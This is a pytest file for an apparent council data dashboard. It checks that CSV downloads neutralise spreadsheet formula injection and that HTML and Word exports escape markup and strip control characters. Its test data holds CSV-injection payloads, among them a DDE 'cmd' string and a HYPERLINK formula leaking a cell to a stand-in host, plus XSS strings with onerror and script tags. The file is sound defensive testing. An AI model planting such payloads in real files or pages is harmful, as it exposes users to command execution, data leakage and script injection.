"""Nothing a download can smuggle: formulas in CSV cells, markup in the HTML pack, control
characters in the Word pack (CSV injection, OWASP)."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest
from docx import Document

from scrutiny import cell_safety, evidence, ui
from scrutiny.cell_safety import neutralise, neutralise_frame, word_text
from scrutiny.filters import Filters
from tests import tiny_extract
from tests.helpers import open_app


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://example.invalid/?q="&A1;"click")', "+1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1", "\n@x", "-3 points", "--", "=",
])
def test_text_that_could_start_a_formula_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [
    "-3", "+2.5", "-1,234", "-12.5%", " -3", "Eastfield", "O'Brien & Sons", "a=b", "", "c",
    -3, -3.5, 0, None,
])
def test_numbers_and_plain_text_are_unchanged(value):
    assert neutralise(value) == value


def test_a_frame_keeps_its_numbers_and_neutralises_text_and_column_names():
    frame = pd.DataFrame({
        "Centre": ["=1+1", "Eastfield", None],
        "Gap": [-3, 4, 5],
        "Shown": ["-3", "c", "-2.5%"],
        "Kind": pd.Categorical(["+x", "y", "+x"]),
        "@total": [1.5, -2.0, None],
    })
    safe = neutralise_frame(frame)
    assert safe.columns.tolist() == ["Centre", "Gap", "Shown", "Kind", "'@total"]
    assert safe["Centre"].tolist()[:2] == ["'=1+1", "Eastfield"] and pd.isna(safe["Centre"].iloc[2])
    assert safe["Gap"].tolist() == [-3, 4, 5]
    assert safe["Shown"].tolist() == ["-3", "c", "-2.5%"]
    assert safe["Kind"].tolist() == ["'+x", "y", "'+x"]
    assert frame["Centre"].iloc[0] == "=1+1", "the frame shown on screen is not changed"
    text = neutralise_frame(frame).to_csv(index=False)
    assert text.splitlines()[1] == "'=1+1,-3,-3,'+x,1.5"


def test_word_text_drops_what_xml_forbids_and_keeps_the_rest():
    assert word_text("a\x00b\x0bc\x1fd\te\nf") == "abcd\te\nf"
    assert word_text(None) == "" and word_text(-3) == "-3"


# --- Every text column of the contract, hostile --------------------------------------------------

PAYLOADS = (
    '=HYPERLINK("http://example.invalid/?leak="&A1;"{}")',
    "+{}+cmd|' /C calc'!A0",
    "-{}",
    "@SUM({})",
    "\t={}",
    "\r={}",
    "<img src=x onerror=alert(1)>{}</script><script>alert(2)</script>",
    "{}\x0b\x00,=1+1",
)


def _hostile(value: str, number: int) -> str:
    return PAYLOADS[number % len(PAYLOADS)].format(value)


def hostile_tables() -> dict[str, pd.DataFrame]:
    """The tiny extract with every free-text column, and the centre and area codes wherever they are
    used, replaced by strings that a spreadsheet would run or a browser would read as markup."""
    frames = tiny_extract.tables()
    counter = iter(range(10_000))
    codes: dict[str, str] = {}

    def code(value):
        if value is None or pd.isna(value):
            return value
        if value not in codes:
            codes[value] = _hostile(value, next(counter))
        return codes[value]

    def text(column: pd.Series) -> pd.Series:
        return column.map(lambda v: v if v is None or pd.isna(v) else _hostile(v, next(counter)))

    centres = frames["centres"]
    for name in ("centre_id", "district"):
        centres[name] = centres[name].map(code)
    for name in ("centre_name", "cluster", "lead_agency"):
        centres[name] = text(centres[name])
    areas = frames["areas"]
    for name in ("area_code", "centre_id", "district"):
        areas[name] = areas[name].map(code)
    areas["area_name"] = text(areas["area_name"])
    frames["population"]["area_code"] = frames["population"]["area_code"].map(code)
    children = frames["children"]
    for name in ("area_code", "registered_centre_id"):
        children[name] = children[name].map(code)
    attendances = frames["attendances"]
    attendances["centre_id"] = attendances["centre_id"].map(code)
    attendances["activity"] = text(attendances["activity"])
    frames["footfall"]["centre_id"] = frames["footfall"]["centre_id"].map(code)
    outcomes = frames["outcomes"]
    local = outcomes.geography_level.isin(["district", "centre"])
    outcomes.loc[local, "geography_code"] = outcomes.loc[local, "geography_code"].map(code)
    indicators = frames["indicators"]
    for name in ("title", "source"):
        indicators[name] = text(indicators[name])
    frames["benchmarks"]["source"] = text(frames["benchmarks"]["source"])
    feedback = frames["feedback"]
    feedback["centre_id"] = feedback["centre_id"].map(code)
    for name in ("consultation", "comment"):
        feedback[name] = text(feedback[name])
    changes = frames["service_changes"]
    changes["centre_id"] = changes["centre_id"].map(code)
    for name in ("title", "detail"):
        changes[name] = text(changes[name])
    return frames


@pytest.fixture
def hostile(make_extract):
    info = dict(tiny_extract.EXTRACT_INFO, authority='=HYPERLINK("http://example.invalid";"Testshire")')
    return make_extract(info=info, **hostile_tables())


def _cells(data: bytes):
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def _runs_as_formula(cell: str) -> bool:
    return cell_safety.is_formula_like(cell)


PAGES = ("pages/overview.py", "pages/reach.py", "pages/gap.py", "pages/footfall.py",
         "pages/feedback.py", "pages/evidence.py", "pages/data.py")


def test_no_csv_download_on_any_page_carries_a_formula(hostile, downloads):
    for page in PAGES:
        at = open_app(page)
        assert not at.exception, (page, [e.message for e in at.exception])
    csvs = {name: data for name, data in downloads.items() if name and name.endswith(".csv")}
    assert len(csvs) >= 10, sorted(csvs)
    cells = [cell for data in csvs.values() for cell in _cells(data)]
    dangerous = [cell for cell in cells if _runs_as_formula(cell)]
    assert dangerous == []
    # The hostile text did reach the downloads, behind its apostrophe: centre names (open and
    # closed), area names, districts, and the authority's name in the header lines.
    joined = "\n".join(cells)
    for reached in ("'=HYPERLINK(\"http://example.invalid/?leak=\"&A1;\"Old Mill Centre\") (closed Mar 2022)",
                    "'+Central Library+cmd|' /C calc'!A0", "'+Marsh+cmd|' /C calc'!A0", "'-Mill Lane",
                    "'\t=Northdale", "'\r=Southvale",
                    "=HYPERLINK(\"http://example.invalid\";\"Testshire\") data extract of 30 June 2024"):
        assert reached in joined, reached


def test_quotes_download_neutralises_every_comment(hostile):
    comments = hostile_tables()["feedback"]
    table = pd.DataFrame({"Quote": comments["comment"], "Consultation": comments["consultation"]})
    data = ui.csv_bytes(table, "Quotes from =cmd|' /C calc'!A0, and @more", Filters(year=2023), "feedback")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert not [cell for row in rows for cell in row if _runs_as_formula(cell)]
    # A comma in a title stays inside the note's one cell instead of starting a new one.
    assert rows[0] == ["Quote", "Consultation", ui.ABOUT_COLUMN]
    assert all(len(row) == 3 and row[2].startswith("Quotes from =cmd|' /C calc'!A0, and @more. Source: feedback;")
               for row in rows[1:])
    assert len(rows) == 1 + len(comments)


def test_every_written_csv_is_neutralised_however_the_header_is_built(tiny):
    table = pd.DataFrame({"Name": ["=1+1"], "Figure": [-3]})
    data = ui.csv_bytes(table, "Title\n=2+2", None, "source, =3+3")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Name", "Figure", ui.ABOUT_COLUMN]
    assert rows[1][:2] == ["'=1+1", "-3"] and len(rows) == 2
    assert rows[1][2].startswith("Title\n=2+2. Source: source, =3+3; Testshire County Council data extract of 30 June 2024.")
    # A note that would itself start a formula (a title beginning with =) is neutralised too.
    data = ui.csv_bytes(table, "=2+2", None, "source")
    note = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1][2]
    assert note.startswith("'=2+2. Source: source;")


def _docx_text(data: bytes) -> str:
    document = Document(io.BytesIO(data))
    parts = [p.text for p in document.paragraphs]
    parts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join(parts)


def test_word_and_html_packs_treat_extract_text_as_text(hostile):
    quotes = [{"quote": _hostile("A parent's words", 0), "consultation": _hostile("Review", 6), "site": _hostile("Brook", 7)}]
    pack = evidence.build_pack(Filters(year=2023), list(evidence.SECTIONS), quotes=quotes)
    page = evidence.to_html(pack)
    # Markup from the extract is shown, not run: the only scripts are plotly's and the charts'.
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "<script>alert(2)" not in page
    assert len(re.findall(r"<script\b", page)) == 1 + len(pack.charts())
    text = _docx_text(evidence.to_docx(pack, None))
    assert "Eastfield Children's Centre" in text and "<img src=x onerror=alert(1)>" in text
    assert "\x00" not in text and "\x0b" not in text
